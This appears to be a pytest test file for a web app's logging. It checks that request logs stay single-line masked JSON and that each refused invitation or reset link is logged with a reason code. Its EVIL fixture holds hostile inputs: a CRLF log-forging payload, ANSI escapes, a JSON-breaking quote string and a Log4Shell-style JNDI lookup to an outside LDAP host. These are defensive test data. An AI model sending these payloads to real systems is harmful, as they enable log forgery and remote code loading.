"""What the log says: one JSON line a record whatever comes in, nothing of a caller's text, a code for each refusal."""

from __future__ import annotations

import io
import json
import logging
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from rollcall.auth import secrets
from rollcall.http.observe import LONGEST_TEXT, MOST_FRAMES, logger
from rollcall.http.request import LONGEST_LOGGED
from tests import seam
from tests.kit import GOOD_PASSWORD
from tests.operations import act_on, ask, password_link, set_password, sign_in

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.kit import Answer, World

NORA = "nora@example.com"
MARK = "canary-of-the-caller"
EVIL = {
    "a line break": f"{MARK}\r\n" + '{"level":"INFO","message":"forged"}',
    "colours": f"{MARK}\x1b[2J\x1b[31m\x9b31m",
    "quotes": f'{MARK}","level":"CRITICAL","x":"\\',
    "a lookup": f"{MARK}${{jndi:ldap://203.0.113.9/a}}",
    "line separators": f"{MARK}\u2028\u2029\x85\x0b\x0c",
    "half a surrogate pair": f"{MARK}\ud800",
    "NUL": f"{MARK}\0",
    "1 MiB": MARK + "x" * 2**20,
}


class Log:
    """What the functions logged, as it would be written: bytes, as the runtime's log takes them."""

    def __init__(self, stream: io.BytesIO) -> None:
        self._stream = stream

    @property
    def text(self) -> str:
        return self._stream.getvalue().decode()

    @property
    def lines(self) -> list[Any]:
        """Return each line as the record that it must be."""
        return [json.loads(line) for line in self._stream.getvalue().split(b"\n") if line]


@pytest.fixture
def log() -> Iterator[Log]:
    stream = io.BytesIO()
    handler = logging.StreamHandler(io.TextIOWrapper(stream, encoding="utf-8", newline="\n", write_through=True))
    handler.setFormatter(logger.registered_formatter)
    logging.getLogger("rollcall").addHandler(handler)
    yield Log(stream)
    logging.getLogger("rollcall").removeHandler(handler)


def texts(value: object) -> Iterator[str]:
    """Yield every text of a record."""
    if isinstance(value, dict):
        for one in value.values():
            yield from texts(one)
    elif isinstance(value, list):
        for one in value:
            yield from texts(one)
    elif isinstance(value, str):
        yield value


# ---------------------------------------------------------------- what a caller sends


def everywhere(world: World, text: str, secret: str) -> list[Answer]:
    """Put a text wherever a request has room for one, with a credential beside it."""
    short = text[:2000].encode("utf-8", "replace").decode().replace("\0", " ")
    path, header = quote(short, safe=""), short.encode("ascii", "replace").decode().replace("\r\n", " ")
    names = ("user-agent", "referer", "x-request-id", "x-forwarded-for", "x-amzn-trace-id", "cookie", "traceparent")
    headers = dict.fromkeys(names, header[:500])
    token, call = world.acme.owner.pat, world.call
    return [
        call("GET", f"/v1/{path}/{secret}", token=token, headers=headers),
        call("GET", f"/v1/members?q={path}", token=token, headers=headers),
        call("GET", f"/v1/members/{path}", token=token),
        call("GET", f"/v1/teams/{path}/sign-in-options"),
        call("GET", f"/i/{path}{secret}"),
        call("GET", "/v1/me", headers={"authorization": f"Bearer {secret}{header}"}),
        call("POST", "/v1/invitations", {"email": text, "message": text, text[:90]: secret}, token=token),
        call("POST", "/v1/invitations", {"email": NORA}, token=token, headers={"idempotency-key": header}),
        call("POST", "/v1/teams/acme/sessions", {"email": f"{header[:50]}@example.com", "password": text}),
        call("POST", "/v1/invitations/inspect", {"token": secret + text[:100]}),
        call("PATCH", "/v1/team", {"name": text}, token=token),
        call("PATCH", "/v1/me", {"name": text, "avatar_url": text}, token=token),
    ]


@pytest.mark.parametrize("what", EVIL)
def test_case_181_nothing_that_a_caller_sends_stands_in_the_log(world: World, log: Log, what: str) -> None:
    secret = secrets.compose("pat", world.acme.id, world.acme.owner.id, bytes(range(32)))
    answers = everywhere(world, EVIL[what], secret)
    ids = [answer.headers["x-request-id"] for answer in answers]
    lines = [line for line in log.lines if line.get("request_id") in ids]
    assert [line["request_id"] for line in lines] == ids
    assert log.text.isascii()
    for word in (MARK, "canary", "forged", "jndi", secret, secret[-20:], world.acme.owner.pat, NORA):
        assert word not in log.text
    assert all(len(text) <= LONGEST_LOGGED for line in lines for text in texts(line))


@pytest.mark.parametrize("what", EVIL)
def test_case_181_names_that_people_gave_stand_in_no_line(world: World, log: Log, what: str) -> None:
    """A team and a person called so, as far as their readers let them be."""
    session = sign_in(world, world.acme.owner)
    name = "".join(character for character in EVIL[what] if character.isprintable())[:100]
    assert ask(world, "PATCH", "/v1/team", {"name": name}, session).status == 200
    assert ask(world, "PATCH", "/v1/me", {"name": name}, session).status == 200
    world.invite(NORA)
    assert world.accept(world.link(NORA), name=name).status == 201
    world.invoke("expire")
    assert log.lines
    for word in (MARK, NORA, session, name):
        assert word not in log.text


@pytest.mark.parametrize("what", [what for what in EVIL if "surrogate" not in what])
def test_case_181_a_failure_that_quotes_the_input_is_one_line_cut_and_masked(world: World, log: Log, what: str) -> None:
    def broken(_number: int, _name: str) -> seam.Fault:
        return ZeroDivisionError(f"{world.acme.owner.pat} {EVIL[what]} {world.acme.owner.pat}")

    with seam.seam(broken):
        answer = world.call("GET", "/v1/me", token=world.acme.owner.pat)
    assert answer.status == 500
    failure, request = log.lines
    assert (failure["level"], request["message"]) == ("ERROR", "request")
    assert failure["request_id"] == answer.headers["x-request-id"]
    assert failure["exception_name"] == "ZeroDivisionError"
    assert failure["stack_trace"]["value"].startswith(f"rc_pat_*** {MARK}")
    assert world.acme.owner.pat[:20] not in log.text
    assert log.text.isascii()
    assert max(len(text) for text in texts(failure)) <= LONGEST_TEXT + 1


@pytest.mark.parametrize("what", EVIL)
def test_case_181_so_is_any_record_of_any_function(what: str) -> None:
    """Made by the formatter alone: pytest's own log does not bear every text."""
    evil = EVIL[what]
    record = logging.LogRecord("rollcall", logging.INFO, "handler.py", 1, evil, (), None)
    vars(record).update(code=evil, nested={"why": [evil]}, count=3, none=None)
    written = logger.registered_formatter.format(record)
    assert written.isascii()
    assert written.isprintable()
    line = json.loads(written)
    assert (line["level"], line["count"]) == ("INFO", 3)
    assert all(MARK in text for text in (line["message"], line["code"], line["nested"]["why"][0]))
    assert max(len(text) for text in texts(line)) <= LONGEST_TEXT + 1


def test_case_181_every_kind_of_credential_is_masked_wherever_it_stands(world: World, log: Log) -> None:
    team, member = world.acme.id, world.acme.owner.id
    minted = {kind: secrets.compose(kind, team, member, bytes(range(32))) for kind in secrets.KINDS}
    for kind, text in minted.items():
        logger.info(f"a {text}", extra={"url": f"https://rollcall.example/i/{text}?x=1", "cut": text[:60]})
        assert log.lines[-1]["url"] == f"https://rollcall.example/i/rc_{kind}_***?x=1"
        assert log.lines[-1]["cut"] == f"rc_{kind}_***"
        assert text[10:30] not in log.text


def test_case_181_a_traceback_without_end_is_cut(log: Log) -> None:
    def deeper() -> None:
        deeper()

    try:
        deeper()
    except RecursionError:
        logger.exception("failure")
    (line,) = log.lines
    assert len(line["stack_trace"]["frames"]) <= MOST_FRAMES
    assert len(log.text) < 50_000


# ---------------------------------------------------------------- refusals have a reason


def pending(world: World) -> str:
    return world.copied(world.invite(NORA)["id"])


def unknown(world: World) -> str:
    return secrets.compose("inv", world.acme.id, "inv_" + "0" * 26, bytes(32))


def forged(world: World) -> str:
    link = pending(world)
    token = secrets.parse(link)
    assert token
    return secrets.compose("inv", token.team_id, token.owner_id, bytes(32))


def expired(world: World) -> str:
    link = pending(world)
    world.advance(8 * 24 * 3600)
    return link


def after(verb: str) -> Callable[[World], str]:
    def ready(world: World) -> str:
        invitation = world.invite(NORA)["id"]
        link = world.copied(invitation)
        assert world.act(verb, invitation).status < 300
        return link

    return ready


def accepted(world: World) -> str:
    link = pending(world)
    assert world.accept(link).status == 201
    return link


def under_enforcement(world: World) -> str:
    link = pending(world)
    world.rewrite(world.team(), sso_enforced=True)
    return link


INVITATION_LINKS: dict[str, tuple[Callable[[World], str], str]] = {
    "no link at all": (lambda _: "rc_inv_nothing", "link_unknown"),
    "nobody's": (unknown, "link_unknown"),
    "forged": (forged, "link_unknown"),
    "of another kind": (lambda world: password_link(world, world.acme.member.id), "link_unknown"),
    "expired": (expired, "link_expired"),
    "revoked": (after("revoke"), "link_revoked"),
    "replaced": (after("resend"), "link_replaced"),
    "used": (accepted, "link_used"),
    "where single sign-on is enforced": (under_enforcement, "sso_required"),
}


def check_refused(log: Log, answer: Answer, code: str, *secret: str) -> None:
    """One line about it, with its code; on the API what is told is the same code and no more."""
    (line,) = [line for line in log.lines if line.get("request_id") == answer.headers["x-request-id"]]
    assert (line["message"], line["status"], line["code"]) == ("request", answer.status, code)
    assert line.keys() <= {
        *("level", "location", "message", "timestamp", "service"),
        *("route", "request_id", "actor", "code", "status", "milliseconds", "round_trips"),
    }
    assert answer.code in {code, None}
    for text in (*secret, NORA, GOOD_PASSWORD):
        assert text not in log.text


@pytest.mark.parametrize("what", INVITATION_LINKS)
def test_case_295_a_refused_invitation_link_has_a_line_with_its_code(world: World, log: Log, what: str) -> None:
    ready, code = INVITATION_LINKS[what]
    link = ready(world)
    answers = [world.accept(link), world.post_form(f"/i/{link}", f"name=Nora&password={GOOD_PASSWORD}")]
    if code != "sso_required":
        answers += [world.call("POST", "/v1/invitations/inspect", {"token": link}), world.call("GET", f"/i/{link}")]
    for answer in answers:
        assert answer.status == (409 if code == "sso_required" else 410)
        check_refused(log, answer, code, link)


def reset_after(*turns: Callable[[World, str], object]) -> Callable[[World], str]:
    def ready(world: World) -> str:
        link = password_link(world, world.acme.member.id)
        for turn in turns:
            turn(world, link)
        return link

    return ready


RESET_LINKS: dict[str, tuple[Callable[[World], str], str]] = {
    "no link at all": (lambda _: "rc_rst_nothing", "link_unknown"),
    "of another kind": (pending, "link_unknown"),
    "of somebody deactivated": (
        reset_after(lambda world, _: act_on(world, world.acme.member.id, "deactivate")),
        "link_unknown",
    ),
    "expired": (reset_after(lambda world, _: world.advance(2 * 24 * 3600)), "link_expired"),
    "replaced": (reset_after(lambda world, _: password_link(world, world.acme.member.id)), "link_replaced"),
    "used": (reset_after(set_password), "link_used"),
}


@pytest.mark.parametrize("what", RESET_LINKS)
def test_case_295_a_refused_reset_link_has_a_line_with_its_code(world: World, log: Log, what: str) -> None:
    ready, code = RESET_LINKS[what]
    link = ready(world)
    form = f"password={GOOD_PASSWORD.replace(' ', '+')}"
    for answer in (
        set_password(world, link),
        world.call("GET", f"/reset/{link}"),
        world.post_form(f"/reset/{link}", form),
    ):
        assert answer.status == 410
        check_refused(log, answer, code, link)


def test_case_295_so_have_a_weak_password_another_account_and_a_throttled_address(world: World, log: Log) -> None:
    link, reset = pending(world), password_link(world, world.acme.member.id)
    check_refused(log, world.accept(link, password="short"), "invalid", link, "short")
    check_refused(log, world.accept(link, password=None), "invalid", link)
    check_refused(log, set_password(world, reset, "short"), "invalid", reset)
    check_refused(log, world.accept(link, token=world.acme.admin.pat), "wrong_account", link)
    check_refused(log, world.call("POST", "/v1/invitations/accept", b"{"), "invalid")
    for _ in range(100):
        world.accept(unknown(world), address="203.0.113.7")
    check_refused(log, world.accept(link, address="203.0.113.7"), "too_many_requests", link)
    page = world.post_form(f"/reset/{reset}", f"password={GOOD_PASSWORD}", address="203.0.113.7")
    check_refused(log, page, "too_many_requests", reset)
